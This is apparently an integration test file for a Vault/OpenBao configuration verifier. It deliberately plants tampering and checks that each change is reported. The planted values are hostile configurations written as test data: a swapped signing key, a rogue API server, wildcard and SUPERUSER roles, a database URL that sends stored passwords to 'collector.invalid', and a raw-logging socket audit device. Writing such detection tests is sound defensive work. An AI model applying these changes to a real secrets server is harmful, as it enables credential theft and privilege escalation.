// Issue 17's requests, replayed on the verifier's server (verifier-fixture.ts, both distributions) with a
// credential that is allowed to make them: break-glass (root here) for what admin is refused
// (policies-admin-escalation.int.test.ts shows the refusals), the apply credential for what its policy lets
// through, the sidecar token for what it may do. Each must be reported by `npm run verify` (with the tenant
// files) by kind and path, and each test puts back what it changed: afterEach checks that nothing is reported.
import { generateKeyPairSync } from "node:crypto";
import { mkdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { caDigest } from "../contract/declared-access";
import { environmentPolicies } from "../policies";
import { DISTRIBUTION } from "./support/bao";
import { makeTestPki } from "./support/pki";
import {
  applyAsRunner,
  call,
  CLUSTER,
  configureInCluster,
  dir,
  kindsAndPaths,
  kube,
  ok,
  oidc,
  PINS,
  renderedStatements,
  renderTenantPolicies,
  root,
  runVerify,
  runVerifyExpectingError,
  server,
  tenantRequest,
  tokens,
  verifierWorldPerFile,
  writeDatabaseRole,
} from "./verifier-fixture";

jest.setTimeout(120_000);
verifierWorldPerFile();

const clean = () => [`0 finding(s) in ${server.addr} for environment example`];
afterEach(async () => {
  expect(await runVerify()).toEqual({ status: 0, lines: clean() });
});

/** The login role a tenant stack writes, with some fields changed. */
const tenantRole = (tenant: string, change: Record<string, unknown>) => {
  const r = tenantRequest(tenant, "create the login role");
  return { ...r, body: { ...r.body, ...change } };
};

describe("backend settings an admin cannot change, changed with break-glass", () => {
  it("reports a key of someone's own on auth/runner (1), another CA on a tenant backend (4), and auth/in-cluster pointed at another API server (5)", async () => {
    mkdirSync(join(dir, "other-ca"), { recursive: true });
    const other = makeTestPki(join(dir, "other-ca"), ["localhost"]);
    const otherCa = readFileSync(other.caCertFile, "utf8");
    try {
      const own = generateKeyPairSync("rsa", { modulusLength: 2048 }).publicKey.export({ type: "spki", format: "pem" }).toString();
      await ok(root, "POST", "auth/runner/config", { oidc_discovery_url: "", jwt_validation_pubkeys: [own], bound_issuer: oidc.url });
      await ok(root, "POST", `auth/kubernetes-${CLUSTER}/config`, {
        kubernetes_host: kube.url,
        kubernetes_ca_cert: otherCa,
        token_reviewer_jwt: "replaced",
        disable_local_ca_jwt: true,
      });
      await ok(root, "POST", "auth/in-cluster/config", { kubernetes_host: "https://203.0.113.9", disable_local_ca_jwt: false });
      const { status, lines } = await runVerify();
      expect(kindsAndPaths(lines)).toEqual([
        `auth-config auth/in-cluster/config`,
        `auth-config auth/kubernetes-${CLUSTER}/config`,
        "auth-config auth/runner/config",
        "auth-config auth/runner/config",
      ]);
      expect(lines).toContain(
        `finding auth-config auth/kubernetes-${CLUSTER}/config: kubernetes_ca_cert is "${caDigest(otherCa)}"; the shared stack declares "${caDigest(kube.caPem)}"`,
      );
      expect(lines).toContainEqual(expect.stringMatching(/^finding auth-config auth\/runner\/config: jwt_validation_pubkeys is \["-----BEGIN PUBLIC KEY-----/));
      expect(lines).toContain(`finding auth-config auth/runner/config: oidc_discovery_url is ""; the shared stack declares "${oidc.url}"`);
      expect(lines).toContain(
        'finding auth-config auth/in-cluster/config: kubernetes_host is "https://203.0.113.9"; the shared stack declares "https://kubernetes.default.svc"',
      );
      expect(status).toBe(1);
    } finally {
      await ok(root, "POST", "auth/runner/config", { oidc_discovery_url: oidc.url, jwt_validation_pubkeys: [], bound_issuer: oidc.url });
      await ok(root, "POST", `auth/kubernetes-${CLUSTER}/config`, {
        kubernetes_host: kube.url,
        kubernetes_ca_cert: kube.caPem,
        token_reviewer_jwt: kube.reviewerJwt,
        disable_local_ca_jwt: true,
      });
      await ok(root, "DELETE", "sys/auth/in-cluster");
      await configureInCluster();
    }
  });
});

describe("what the apply credential may write, against the tenant files (8)", () => {
  it("reports a tenant role bound to every service account and namespace, or to another tenant's namespace (3, 8)", async () => {
    try {
      await applyAsRunner(tenantRole("payments", { bound_service_account_names: ["*"], bound_service_account_namespaces: ["*"] }));
      await applyAsRunner(tenantRole("search", { bound_service_account_namespaces: ["search", "payments"] }));
      const { status, lines } = await runVerify();
      expect(kindsAndPaths(lines)).toEqual([`role-binding auth/kubernetes-${CLUSTER}/role/payments`, `role-binding auth/kubernetes-${CLUSTER}/role/search`]);
      expect(lines).toContain(
        `finding role-binding auth/kubernetes-${CLUSTER}/role/payments: lets in other identities than the tenant's file declares: bound_service_account_names = *; bound_service_account_namespaces = *`,
      );
      expect(lines).toContain(
        `finding role-binding auth/kubernetes-${CLUSTER}/role/search: lets in other identities than the tenant's file declares: bound_service_account_namespaces = search, payments`,
      );
      expect(status).toBe(1);
    } finally {
      for (const tenant of ["payments", "search"]) await applyAsRunner(tenantRequest(tenant, "create the login role"));
    }
  });

  it("reports a database role that creates superusers", async () => {
    const r = tenantRequest("payments", "create the database role");
    try {
      await applyAsRunner({ ...r, body: { ...r.body, creation_statements: ["CREATE ROLE \"{{name}}\" WITH SUPERUSER LOGIN PASSWORD '{{password}}';"] } });
      const { status, lines } = await runVerify();
      expect(kindsAndPaths(lines)).toEqual(["database-statements tenants/payments/database/roles/app"]);
      expect(status).toBe(1);
    } finally {
      await writeDatabaseRole("payments");
    }
    expect(renderedStatements("payments")[0]).toMatch(/^CREATE ROLE "\{\{name\}\}" WITH LOGIN PASSWORD/);
  });

  it("reports a database connection pointed at another server (where Vault would send the stored password)", async () => {
    const r = tenantRequest("search", "configure the PostgreSQL connection");
    try {
      // Root here: the apply credential's policy pins each declared connection's address (policies.int.test.ts).
      await ok(root, r.method, r.path, { ...r.body, connection_url: "postgresql://{{username}}:{{password}}@collector.invalid:5432/app?sslmode=disable" });
      const { status, lines } = await runVerify();
      expect(kindsAndPaths(lines)).toEqual(["database-connection tenants/search/database/config/postgres"]);
      expect(lines[0]).toContain("collector.invalid");
      expect(lines[0]).toContain("db.invalid:5432");
      expect(status).toBe(1);
    } finally {
      await ok(root, r.method, r.path, r.body);
    }
  });
});

describe("after one tenant's apply (Atlantis applies before merge)", () => {
  it("compares only that tenant's file: another pull request's applied tenant and its database pin are no finding until the scheduled run", async () => {
    const other = {
      path: "tenants/reports/database/config/postgres",
      connectionUrl: "postgresql://{{username}}:{{password}}@reports-db:5432/app?sslmode=verify-full",
    };
    const role = tenantRole("search", {});
    try {
      // Another open pull request's tenant, applied and not merged: its login role, and its connection's pin in the provisioner policy.
      await ok(root, "PUT", `auth/kubernetes-${CLUSTER}/role/reports`, {
        ...role.body,
        bound_service_account_names: ["app"],
        bound_service_account_namespaces: ["reports"],
        token_policies: ["tenant-reports"],
      });
      await ok(root, "PUT", "sys/policies/acl/provisioner", { policy: environmentPolicies([CLUSTER], [...PINS, other]).provisioner });
      expect(await runVerify({ VAULT_GKE_VERIFY_TENANTS: "search" })).toEqual({ status: 0, lines: clean() });
      const all = await runVerify();
      expect(kindsAndPaths(all.lines)).toEqual(["system-policy sys/policies/acl/provisioner", `undeclared-role auth/kubernetes-${CLUSTER}/role/reports`]);
      // A name no file declares is a usage error, not an empty comparison.
      const typo = await runVerifyExpectingError({ VAULT_GKE_VERIFY_TENANTS: "serach" });
      expect(typo.status).toBe(2);
      expect(typo.stderr).toContain('VAULT_GKE_VERIFY_TENANTS names "serach", which no tenant file of this environment declares');
    } finally {
      await ok(root, "DELETE", `auth/kubernetes-${CLUSTER}/role/reports`);
      await ok(root, "PUT", "sys/policies/acl/provisioner", { policy: environmentPolicies([CLUSTER], PINS).provisioner });
    }
  });
});

describe("what the sidecar token may do (7)", () => {
  it("reports a tenant policy it deleted: the tenant's pods lose access until the sidecar writes it back", async () => {
    try {
      expect((await call(String(tokens.sidecar), "DELETE", "sys/policies/acl/tenant-search")).status).toBe(204);
      const { status, lines } = await runVerify();
      expect(kindsAndPaths(lines)).toEqual(["missing-tenant-policy sys/policies/acl/tenant-search"]);
      expect(status).toBe(1);
    } finally {
      await renderTenantPolicies();
    }
  });
});

describe("audit devices (9)", () => {
  if (DISTRIBUTION === "vault") {
    it("reports a socket device that logs raw values, and a declared device that was disabled (Vault enables devices through the API)", async () => {
      try {
        await ok(root, "PUT", "sys/audit/tap", { type: "socket", options: { address: "127.0.0.1:9", socket_type: "udp", log_raw: true } });
        await ok(root, "DELETE", "sys/audit/stdout");
        const { status, lines } = await runVerify();
        expect(kindsAndPaths(lines)).toEqual(["audit-device sys/audit/stdout", "audit-device sys/audit/tap"]);
        expect(status).toBe(1);
      } finally {
        await ok(root, "DELETE", "sys/audit/tap");
        await ok(root, "PUT", "sys/audit/stdout", { type: "file", options: { file_path: "stdout" } });
      }
    });
  } else {
    it("OpenBao refuses to enable or disable an audit device through the API, even for root (its devices come from the server configuration)", async () => {
      expect(
        (await call(root, "PUT", "sys/audit/tap", { type: "socket", options: { address: "127.0.0.1:9", socket_type: "udp", log_raw: true } })).status,
      ).toBeGreaterThanOrEqual(400);
      expect((await call(root, "DELETE", "sys/audit/stdout")).status).toBeGreaterThanOrEqual(400);
      expect(Object.keys((await ok(root, "GET", "sys/audit")).data as object).sort()).toEqual(["file/", "stdout/"]);
    });
  }
});
